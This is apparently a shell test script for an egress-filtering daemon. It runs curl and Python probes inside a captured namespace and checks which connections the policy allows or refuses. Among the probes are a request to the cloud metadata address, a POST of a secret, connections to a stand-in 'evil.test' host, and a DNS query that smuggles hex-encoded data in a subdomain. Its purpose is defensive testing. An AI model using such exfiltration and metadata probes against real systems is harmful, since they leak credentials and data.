#!/bin/sh
# filterd-egress: connections to any address, captured in a network namespace by a local route; no proxy is configured.
. "$(dirname "$0")/../service.inc"
. "$(dirname "$0")/egress.inc"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "/CN=tls.test" \
    -addext 'subjectAltName=DNS:tls.test,DNS:open.test' -keyout "$work/key" -out "$work/pem" 2>/dev/null
upstream; plain=$port
upstream "$work/pem" "$work/key"; tls=$port
cat >"$work/egress.yaml" <<YAML
rules:
  - {name: api, hosts: api.test, ports: $plain, scheme: http, methods: [GET, POST], paths: /ok/**, addresses: 127.0.0.1,
     may_reach: loopback}
  - {name: tls, hosts: tls.test, ports: $tls, scheme: https, tls: passthrough, addresses: 127.0.0.1, may_reach: loopback}
  - {name: open, hosts: open.test, ports: $tls, scheme: https, tls: open, ca: $work/pem, methods: GET, paths: /ok/**,
     addresses: 127.0.0.1, may_reach: loopback}
  - {name: named, hosts: named.test, scheme: https, tls: passthrough, addresses: 93.184.216.34}
YAML
# What runs inside: no variable, no proxy, addresses as they come.
cat >"$work/inside.sh" <<INSIDE
ask() { timeout 10 curl -s --max-time 10 -o /dev/null -w '%{http_code}\n' "\$@"; echo "exit \$?"; }
at='--resolve *:$plain:93.184.216.34 --resolve *:$tls:10.0.0.5'
echo "1 \$(ask \$at http://api.test:$plain/ok/a)"
echo "2 \$(ask \$at http://api.test:$plain/other)"
echo "3 \$(ask \$at http://evil.test:$plain/ok/a)"
echo "4 \$(ask http://169.254.169.254:$plain/latest/)"
echo "5 \$(ask \$at -d 'key=$secret' http://api.test:$plain/ok/a)"
echo "6 \$(ask \$at --cacert $work/pem https://tls.test:$tls/any)"
echo "7 \$(ask \$at -k https://evil.test:$tls/)"
echo "8 \$(ask -k https://10.9.9.9:$tls/)"
echo "9 \$(ask \$at --cacert $work/ca.pem https://open.test:$tls/ok/a)"
echo "10 \$(ask \$at --cacert $work/ca.pem https://open.test:$tls/other)"
echo "11 \$(ask http://8.8.4.4:1/)"
[ ! -e /proc/net/if_inet6 ] || echo "15 \$(ask --resolve '*:$plain:[2606:4700::1111]' http://api.test:$plain/other)"
/usr/bin/python3 - <<'PYTHON'
import socket, struct
def ask(name, kind=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(10)
    question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
    s.sendto(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + question, ("1.1.1.1", 53))
    answer, sender = s.recvfrom(2000)
    return sender[0], answer[3] & 15, answer[-4:].hex() if answer[7] else ""
print("12", *ask("named.test"))
print("13", *ask("4a6f686e3132333435363738.evil.test")[:2])
s = socket.socket()
s.settimeout(10)
s.connect(("1.2.3.4", $tls))
s.sendall(b"SSH-2.0-x\r\n\r\n")
print("14", s.recv(100)[:20].decode())
PYTHON
INSIDE
: >"$work/log"
/usr/bin/python3 tests/support/capture.py "$work/inside.sh" "$plain,$tls" "$bin/filterd-egress" --policy "$work/egress.yaml" \
    --rules "$rules" --cache-directory "$work/cache" --ca-file "$work/ca.pem" --log "$record" >"$work/said" 2>>"$work/log"
expect 'ends well' 0 $?
said() { expect "$1" "$3" "$(grep -A1 "^$2 " "$work/said" | sed "s/^$2 //; /^[0-9]* /d" | tr '\n' ' ' | sed 's/ $//')"; }
said 'plain' 1 '200 exit 0'
said 'another path' 2 '403 exit 0'
said 'another host' 3 '403 exit 0'
said 'metadata by address' 4 '403 exit 0'
said 'a secret' 5 '403 exit 0'
said 'TLS' 6 '200 exit 0'
said 'TLS to another host' 7 '000 exit 35'
said 'TLS to an address' 8 '000 exit 35'
said 'TLS that is opened' 9 '200 exit 0'
said 'another path in it' 10 '403 exit 0'
said 'a port that nobody captures' 11 '000 exit 7'
said 'a name' 12 '1.1.1.1 0 5db8d822'
said 'another name' 13 '1.1.1.1 5'
said 'what is neither' 14 'HTTP/1.1 400 Refused'
recorded() { expect "$1" "$2" "$(jq -c "$3" "$record" | sort | uniq -c | sed 's/^ *//')"; }
if [ -e /proc/net/if_inet6 ]; then
    said 'IPv6' 15 '403 exit 0'
    recorded 'IPv6' '1 ["api.test","path"]' 'select(.original=="2606:4700::1111")|[.host,.reason]'
fi
recorded 'what was meant stands in the record' '1 ["http","169.254.169.254","169.254.169.254","refused","host"]' \
    'select(.original=="169.254.169.254")|[.kind,.host,.original,.verdict,.reason]'
recorded 'so does what was connected to' '1 ["http","api.test","93.184.216.34","127.0.0.1","api"]' \
    'select(.kind=="http" and .verdict=="allowed")|[.kind,.host,.original,.address,.rule]'
recorded 'TLS' '1 ["tls","evil.test","10.0.0.5","refused","host"]
1 ["tls","tls.test","10.0.0.5","allowed",null]
1 ["tls","tls.test","10.0.0.5","opened",null]' 'select(.kind=="tls" and .host)|[.kind,.host,.original,.verdict,.reason]'
recorded 'TLS without a name' '1 ["tls","10.9.9.9","refused","hello"]' 'select(.kind=="tls" and .host==null)|[.kind,.original,.verdict,.reason]'
recorded 'opened' '1 ["open.test","/ok/a","allowed"]
1 ["open.test","/ok/a","opened"]
1 ["open.test","/other","refused"]' 'select(.kind=="https")|[.host,.path,.verdict]'
recorded 'names' '1 ["*.evil.test","refused"]
1 ["named.test","allowed"]' 'select(.kind=="dns")|[.host,.verdict]'
finish
